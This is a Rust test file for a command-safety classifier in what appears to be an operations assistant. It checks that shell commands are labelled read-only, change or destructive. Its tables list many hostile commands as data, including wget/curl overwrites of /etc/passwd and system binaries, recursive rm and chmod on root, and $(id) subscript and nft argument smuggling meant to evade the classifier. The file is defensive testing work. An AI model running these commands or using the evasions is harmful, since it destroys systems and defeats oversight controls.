//! Issue 9, grammar findings: read-only is earned. Each row is a command and its class; the
//! rows of `FIXED` were misclassified before the per-tool grammar tables (every one of them
//! fails on the branch point), the rows of `STAYS` pin behaviour that must not regress.

use opsassist::policy::{Class, classify, classify_argv};

const R: Class = Class::ReadOnly;
const C: Class = Class::Change;
const D: Class = Class::Destructive;

/// (finding class, command, expected class).
const FIXED: &[(&str, &str, Class)] = &[
    // 1. an option's value read as the subcommand
    ("value-as-sub", "systemctl --message status poweroff", D),
    ("value-as-sub", "systemctl --when status halt", D),
    ("value-as-sub", "systemctl --kill-value status kexec", D),
    ("value-as-sub", "systemctl --drop-in status poweroff", D),
    ("value-as-sub", "helm --kube-as-user list uninstall web", D),
    (
        "value-as-sub",
        "helm --registry-config list uninstall web",
        D,
    ),
    ("value-as-sub", "crictl -t 5 ps", R),
    ("value-as-sub", "terraform -chdir infra destroy", D),
    ("value-as-sub", "ip -netns blue link show", R),
    ("value-as-sub", "ip -family inet addr", R),
    // 2. GNU long-option abbreviations, short clusters, iproute2 abbreviations
    ("abbrev", "sed --i s/a/b/ f", C),
    ("abbrev", "sed --in s/a/b/ f", C),
    ("abbrev", "sed --e='1e id' p", C),
    ("abbrev", "sed --ex=1w/tmp/x p", C),
    ("abbrev", "sort --outp=F f", C),
    ("abbrev", "sort --ou F f", C),
    ("abbrev", "sort -rT /tmp f", C),
    ("abbrev", "sort --compress-prog=sh f", C),
    ("abbrev", "journalctl --vacuum-ti=1s", C),
    ("abbrev", "journalctl --vac=1s", C),
    ("abbrev", "journalctl --rot", C),
    ("abbrev", "journalctl --flu", C),
    ("abbrev", "journalctl --setup-k", C),
    ("abbrev", "dmesg --cl", C),
    ("abbrev", "dmesg --console-l 1", C),
    ("abbrev", "dmesg --read-c", C),
    ("abbrev", "dmesg --console-of", C),
    ("abbrev", "sysctl -ep", C),
    ("abbrev", "sysctl -qw kernel.x", C),
    ("abbrev", "sysctl --lo", C),
    ("abbrev", "sysctl --sys", C),
    ("abbrev", "sysctl -f", C),
    ("abbrev", "ip a f dev eth0", C),
    ("abbrev", "ip r d default", C),
    ("abbrev", "ip ro fl table main", C),
    ("abbrev", "ip n fl all", C),
    ("abbrev", "ip l se eth0 down", C),
    ("abbrev", "ip link s eth0", C),
    ("abbrev", "ip neigh fl dev eth0", C),
    ("abbrev", "ss --ki dst 10.0.0.1", C),
    // 3. readers with options that write or run something
    ("writer-option", "tree -o F", C),
    ("writer-option", "tree -J -o out.json /srv", C),
    ("writer-option", "tree -o /etc/passwd /", D),
    ("writer-option", "iptables-save -f F", C),
    ("writer-option", "ip6tables-save --file=/tmp/x", C),
    ("writer-option", "sar -o /tmp/sa 1 3", C),
    ("writer-option", "sar -o", C),
    ("writer-option", "ifconfig eth0 down", C),
    (
        "writer-option",
        "ifconfig eth0 10.0.0.2 netmask 255.255.255.0",
        C,
    ),
    ("writer-option", "ifconfig eth0 mtu 9000", C),
    ("writer-option", "route del default", C),
    ("writer-option", "route add -net 10.0.0.0/8 gw 10.0.0.1", C),
    ("writer-option", "arp -d 10.0.0.1", C),
    ("writer-option", "arp -s 10.0.0.1 00:11:22:33:44:55", C),
    ("writer-option", "arp -f /etc/ethers", C),
    ("writer-option", "sort --compress-program=sh f", C),
    ("writer-option", "mawk -W exec prog.awk", C),
    (
        "writer-option",
        "apt-cache -o Dir::Cache::pkgcache=/tmp/x show bash",
        C,
    ),
    ("writer-option", "apt-cache -c /tmp/apt.conf policy", C),
    (
        "writer-option",
        "apt -oAPT::Update::Pre-Invoke::=id list",
        C,
    ),
    ("writer-option", "apt-cache --pkg-cache=/tmp/x stats", C),
    ("writer-option", "openssl x509 -in a.pem -out=b.pem", C),
    ("writer-option", "openssl x509 -in a.pem --out b.pem", C),
    (
        "writer-option",
        "openssl s_client -connect x:443 -sess_out=/tmp/s",
        C,
    ),
    (
        "writer-option",
        "openssl x509 -in a.pem -keyout=/etc/ssl/k.pem",
        D,
    ),
    ("writer-option", "curl -Q 'DELE f' https://x.example/", C),
    (
        "writer-option",
        "curl --quote 'RNFR a' https://x.example/",
        C,
    ),
    ("writer-option", "curl --data-a @f https://x.example/", C),
    ("writer-option", "curl --outp /tmp/x https://x.example/", C),
    ("writer-option", "curl --up /tmp/x https://x.example/", C),
    ("writer-option", "curl gopher://127.0.0.1:6379/_FLUSHALL", C),
    ("writer-option", "curl dict://127.0.0.1:11211/stats", C),
    (
        "writer-option",
        "mysql --init-command='DROP TABLE t' -e 'SELECT 1'",
        D,
    ),
    (
        "writer-option",
        "mysql --init-c='UPDATE x SET a=1' -e 'SELECT 1'",
        C,
    ),
    ("writer-option", "mysql --pager='sh -c id' -e 'SELECT 1'", C),
    (
        "writer-option",
        "mysql --defaults-file=/tmp/my.cnf -e 'SELECT 1'",
        C,
    ),
    ("writer-option", "uptime -x", C),
    ("writer-option", "ls --evil /tmp", C),
    ("writer-option", "cat --bogus f", C),
    ("writer-option", "file -C -m /tmp/magic", C),
    ("writer-option", "lastlog -C -u root", C),
    ("writer-option", "nstat -r", C),
    ("writer-option", "blkid -g", C),
    ("writer-option", "ss -D /tmp/x", C),
    // 4. arguments a tool joins and re-parses; bash arithmetic subscripts
    ("joined", "nft list ruleset \\; flush ruleset", D),
    ("joined", "nft 'list ruleset; delete table inet filter'", D),
    ("joined", "nft list tables \\; add table ip evil", C),
    ("joined", "test -v 'a[$(id)]'", C),
    ("joined", "printf -v 'a[$(id)]' %s x", C),
    ("joined", "printf -v out %s x", C),
    // 5. one tool's letter read as another's
    ("parted", "parted -s /dev/sda mklabel gpt", D),
    ("parted", "parted -s /dev/sda rm 1", D),
    ("parted", "parted -s /dev/sda resizepart 1 100%", D),
    ("parted", "parted -s /dev/sdb name 1 data", D),
    ("parted", "sfdisk -s --delete /dev/sda 1", D),
    // destructive: PIDs as kill reads them, crontab, systemd targets, terraform, writes to
    // system paths, find -exec on the files found
    ("destructive", "kill -9 01", D),
    ("destructive", "kill -9 001", D),
    ("destructive", "kill -s KILL 01", D),
    ("destructive", "kill -TERM 0001", D),
    ("destructive", "kill -- 01", D),
    ("destructive", "kill -- -01", D),
    ("destructive", "killall -s 1 nginx", C),
    ("destructive", "crontab -u root -r", D),
    ("destructive", "crontab -u www-data -ir", D),
    ("destructive", "systemctl isolate rescue.target", D),
    ("destructive", "systemctl isolate emergency", D),
    ("destructive", "systemctl start poweroff.target", D),
    ("destructive", "systemctl isolate runlevel0.target", D),
    ("destructive", "systemctl --no-block start reboot.target", D),
    ("destructive", "terraform apply --destroy", D),
    ("destructive", "tofu apply --destroy=true", D),
    (
        "destructive",
        "curl -o /etc/cron.d/job https://x.example/job",
        D,
    ),
    (
        "destructive",
        "curl -sSLo /etc/profile.d/x.sh https://x.example/x",
        D,
    ),
    (
        "destructive",
        "curl --output=/usr/local/bin/tool https://x.example/t",
        D,
    ),
    ("destructive", "wget -O /etc/passwd https://x.example/p", D),
    (
        "destructive",
        "wget -qO /boot/vmlinuz https://x.example/k",
        D,
    ),
    (
        "destructive",
        "wget --output-document=/usr/bin/ls https://x.example/l",
        D,
    ),
    ("destructive", "find /etc -type f -exec rm {} +", D),
    ("destructive", "find /var/lib/mysql -exec rm {} \\;", D),
    (
        "destructive",
        "find / -name '*.conf' -exec mv {} /tmp \\;",
        D,
    ),
    ("destructive", "find /boot -execdir rm {} +", D),
    ("destructive", "ip netns exec blue rm -rf /", D),
    ("destructive", "ip netns exec blue reboot", D),
    ("destructive", "ip vrf exec blue rm -rf /var/lib", D),
    ("destructive", "ip netns e blue reboot", D),
    ("destructive", "chmod -R 777 /.", D),
    // false positives
    ("false-positive", "terraform plan -destroy", C),
    ("false-positive", "terraform -chdir=prod plan -destroy", C),
    ("false-positive", "dd if=/dev/sda of=/dev/null", R),
    (
        "false-positive",
        "dd if=/dev/sda of=/dev/null bs=1M count=100 status=progress",
        R,
    ),
    ("false-positive", "kill -0 1", R),
    ("false-positive", "kill -0 4242", R),
    ("false-positive", "kill -s 0 1", R),
    ("false-positive", "kill -HUP 1", C),
    ("false-positive", "killall -s HUP nginx", C),
    ("false-positive", "killall --signal USR1 nginx", C),
    ("false-positive", "pkill --signal HUP nginx", C),
    ("false-positive", "crontab -u root -l", R),
    ("false-positive", "ip -br addr", R),
    ("false-positive", "ip -br -c link", R),
    ("false-positive", "ip -brief a", R),
    ("false-positive", "awk '$9 >= 500' access.log", R),
    ("false-positive", "awk '$3 > 100 {print $1}' f", R),
    ("false-positive", "awk 'NR > 1 && $2 > 0' f", R),
    (
        "false-positive",
        "awk '{ if ($1 > max) max = $1 } END { print max }' f",
        R,
    ),
    ("false-positive", "awk '{print (1 > 2)}' f", R),
    ("false-positive", "awk '{print $1 > \"/dev/stderr\"}' f", R),
    ("false-positive", "awk '/a|b/ {print}' f", R),
    ("false-positive", "gawk -e '$1 > 5' f", R),
    ("false-positive", "awk -v n=5 '$2 > n' f", R),
    (
        "false-positive",
        "curl -s -o /dev/null -w '%{http_code}' https://x.example/",
        R,
    ),
    ("false-positive", "wget -qO- https://x.example/health", R),
    ("false-positive", "wget -O - https://x.example/health", R),
    ("false-positive", "wget --spider https://x.example/", R),
    ("false-positive", "wget -qO /dev/null https://x.example/", R),
    ("false-positive", "killall -l", R),
    ("false-positive", "sort -o /dev/null f", R),
    ("abbrev", "iptables --fl", D),
    ("false-positive", "mount -t ext4", R),
];

/// Rows that were right before and must stay so.
const STAYS: &[(&str, Class)] = &[
    ("parted --script /dev/sda print free extra", D),
    ("[ -v 'x[$(reboot)]' ]", C),
    ("crontab -l", R),
    ("crontab -l -u postgres", R),
    ("crontab -ri", D),
    ("crontab -u app -e", C),
    ("parted /dev/sda print", R),
    ("parted -s /dev/sda print", R),
    ("parted -m /dev/sda print", R),
    ("parted -l", R),
    ("sfdisk -s /dev/sda", R),
    ("fdisk -l /dev/sda", R),
    ("kill -SIGKILL -1", D),
    ("kill -9 -1", D),
    ("kill -s USR1 01", C),
    ("killall -s KILL nginx", D),
    ("pkill -SIGHUP -f gunicorn", C),
    ("systemctl isolate multi-user.target", C),
    ("terraform apply -destroy -auto-approve", D),
    ("terraform plan --destroy -out=p.tfplan", C),
    ("dd if=/dev/zero of=/tmp/x", D),
    ("find /tmp -exec rm {} \\;", C),
    ("ip netns exec blue ls", C),
    ("ip -j -p route", R),
    ("ip -d link show", R),
    ("ip link sh", R),
    ("ip a del 10.0.0.1/24 dev eth0", C),
    ("ip -b cmds.txt", C),
    ("ifconfig -a", R),
    ("ifconfig eth0", R),
    ("route -n", R),
    ("arp -an", R),
    ("nft list ruleset \\; list tables", R),
    ("test -f /etc/hosts", R),
    ("printf '%s\\n' a b", R),
    ("echo -n hi", R),
    ("head -20 /var/log/syslog", R),
    ("tail -n 50 -f /var/log/syslog", R),
    ("grep -5 -rn ERROR /var/log", R),
    ("ps auxf", R),
    ("ps -eo pid,comm --sort -%cpu", R),
    ("lsof -i :80", R),
    ("stat --printf=%s f", R),
    ("du -sh --time /var", R),
    ("sort -k2,2n -t: /etc/passwd", R),
    ("journalctl -b -1 -n 100 --no-pager", R),
    ("journalctl -u nginx -p err --since today", R),
    ("systemctl --no-pager --failed", R),
    ("curl -fsS --max-time 5 https://x.example/health", R),
    ("curl -X HEAD -I https://x.example/", R),
    (
        "openssl x509 -in /etc/ssl/cert.pem -noout -subject -dates",
        R,
    ),
    (
        "openssl s_client -connect x.example:443 -servername x.example -showcerts",
        R,
    ),
    ("iptables -L INPUT -n -v --line-numbers", R),
    ("iptables -t nat -S", R),
    ("iptables -nL", R),
    ("iptables -I INPUT -j DROP", D),
    ("dig +short example.com @1.1.1.1", R),
    ("nslookup -type=mx example.com", R),
    ("awk -F: '{print $1}' /etc/passwd", R),
    ("awk '{print > \"/tmp/x\"}' f", C),
    ("awk '{print $1 >> \"/tmp/x\"}' f", C),
    ("awk '{print | \"sh\"}' f", C),
    ("awk 'BEGIN { \"date\" | getline d }'", C),
    ("awk 'BEGIN { system(\"id\") }'", C),
    ("gawk '@load \"filefuncs\"; BEGIN {}'", C),
    ("sed -n '/ERROR/p' /var/log/syslog", R),
    ("apt-cache policy nginx", R),
    ("apt list --installed", R),
    ("dpkg -l nginx", R),
    ("dpkg -i x.deb", C),
    ("rpm -qa", R),
    ("rpm -qi openssl", R),
    ("rpm -e openssl", C),
    ("helm list -A", R),
    ("crictl ps -a", R),
    ("timedatectl status", R),
    ("timedatectl set-time 2020-01-01", C),
    ("date +%s", R),
    ("hostname -I", R),
    ("ping -c 3 -W 1 10.0.0.1", R),
    ("ping -f 10.0.0.1", C),
    ("top -b -n 1 -o %MEM", R),
    ("uniq -c f", R),
    ("wget -O /tmp/x https://x.example/", C),
];

fn check(rows: impl Iterator<Item = (String, Class)>) -> Vec<String> {
    rows.filter_map(|(command, want)| {
        let got = classify(&command);
        (got.class != want).then(|| {
            format!(
                "  {command:?}: want {}, got {} ({})",
                want.as_str(),
                got.class.as_str(),
                got.reason
            )
        })
    })
    .collect()
}

#[test]
fn grammar_findings_are_classified_by_the_tools_rules() {
    let failures = check(FIXED.iter().map(|(_, c, w)| (c.to_string(), *w)));
    assert!(
        failures.is_empty(),
        "{} of {} rows mismatch:\n{}",
        failures.len(),
        FIXED.len(),
        failures.join("\n")
    );
    for class in [
        "value-as-sub",
        "abbrev",
        "writer-option",
        "joined",
        "parted",
        "destructive",
        "false-positive",
    ] {
        let n = FIXED.iter().filter(|(k, _, _)| *k == class).count();
        assert!(n >= 3, "finding class {class} has only {n} rows");
    }
}

#[test]
fn behaviour_that_was_right_stays() {
    let failures = check(STAYS.iter().map(|(c, w)| (c.to_string(), *w)));
    assert!(
        failures.is_empty(),
        "{} of {} rows mismatch:\n{}",
        failures.len(),
        STAYS.len(),
        failures.join("\n")
    );
}

#[test]
fn nft_reparses_newlines_in_one_argument() {
    let argv = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let rows: &[(&[&str], Class)] = &[
        (&["nft", "list ruleset\nflush ruleset"], D),
        (&["nft", "list ruleset;", "add table ip x"], C),
        (&["nft", "list ruleset\nlist tables"], R),
        (&["nft", "list rulesetflush ruleset"], C),
        (&["nft", "list", "ruleset", "flush", "ruleset"], C),
    ];
    for (a, want) in rows {
        let got = classify_argv(&argv(a));
        assert_eq!(got.class, *want, "{a:?}: {}", got.reason);
    }
    // The same through the shell: a newline inside double quotes is part of the word.
    for (line, want) in [
        ("nft \"list ruleset\nflush ruleset\"", D),
        ("nft \"list ruleset\nlist tables\"", R),
    ] {
        let got = opsassist::policy::classify(line);
        assert_eq!(got.class, want, "{line:?}: {}", got.reason);
    }
}
